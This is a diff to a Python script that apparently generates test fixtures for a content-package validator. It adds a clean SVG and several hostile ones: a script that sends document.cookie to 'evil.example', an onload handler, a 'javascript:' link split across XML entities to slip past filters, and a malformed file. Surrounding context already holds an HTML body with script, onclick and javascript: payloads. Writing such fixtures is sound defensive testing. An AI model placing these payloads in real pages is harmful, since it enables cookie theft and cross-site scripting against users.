@@ -264,6 +264,24 @@ def zips():
     e[1].offset = 0xFFFFFFFF
     e[1].extra = struct.pack("<HHQ", 0x0001, 8, 0xFFFFFFFFFFFFFFF0)
     write(n, build(e))
+    # SVG images that run script when opened by themselves, one way each; and one a browser
+    # cannot read. The clean SVG beside them is the example of what passes.
+    def svg_issue(n, svg):
+        t = stem(n)
+        doc = manifest(t, images=[asset("photo-1", "chart.svg")])
+        write(n, build(issue_entries(t, doc, files={"chart.svg": svg}, skip=("photo-1.jpg",))))
+    svg_head = '<?xml version="1.0" encoding="UTF-8"?>\n'
+    svg_issue("svg-clean-valid.zip", (svg_head + '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">\n'
+              '  <a href="https://example.com/"><rect width="10" height="10" fill="#c33"/></a>\n</svg>\n').encode())
+    svg_issue("svg-script-error.zip", (svg_head + '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">\n'
+              '  <rect width="10" height="10"/>\n  <script>fetch("https://evil.example/?c=" + document.cookie)</script>\n</svg>\n').encode())
+    svg_issue("svg-onload-error.zip", (svg_head + '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="10" height="10">\n'
+              '  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>\n</svg>\n').encode())
+    # `javascript:` split across two internal entities: the attribute holds only `&a;&b;`.
+    svg_issue("svg-javascript-entity-error.zip", (svg_head + '<!DOCTYPE svg [ <!ENTITY a "java"> <!ENTITY b "script:alert(1)"> ]>\n'
+              '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n'
+              '  <a xlink:href="&a;&b;"><text y="10">Tap</text></a>\n</svg>\n').encode())
+    svg_issue("svg-malformed-warning.zip", (svg_head + '<svg xmlns="http://www.w3.org/2000/svg">\n  <rect width="10">\n</svg>\n').encode())
     n = "hostile-body-error.zip"; t = stem(n)
     body = ("<p onclick=\"steal()\">Hi</p>\n<script>alert(1)</script>\n<a href=\"javascript:alert(1)\">x</a>\n"
             "<img src=\"https://tracker.example.com/p.gif\">\n<!-- [ASSET: photo-1] -->\n<!-- [ASSET: sound-1] -->\n")
@@ -345,6 +363,10 @@ def sources():
     os.makedirs(os.path.join(SOURCES, "non-utf8-folder-error", "articles").encode() + b"/02-caf\xe9")
     with open(os.path.join(SOURCES, "non-utf8-folder-error", "articles").encode() + b"/02-caf\xe9/article.md", "w") as f:
         f.write(art.replace("First", "Second"))
+    source("svg-script-error", {"issue.yaml": ISSUE,
+                                "articles/01-first/article.md": "---\ntitle: A\nassets: [chart.svg]\n---\n<!-- [ASSET: chart.svg] -->\n",
+                                "articles/01-first/chart.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n<circle r="4"/>\n'
+                                                               '<script>alert(document.domain)</script>\n</svg>\n'})
     root = os.path.join(SOURCES, "symlink-outside-error")
     source("symlink-outside-error", {"issue.yaml": ISSUE,
                                      "articles/01-first/article.md": "---\ntitle: A\nassets: [photo.png]\n---\n<!-- [ASSET: photo.png] -->\n"})
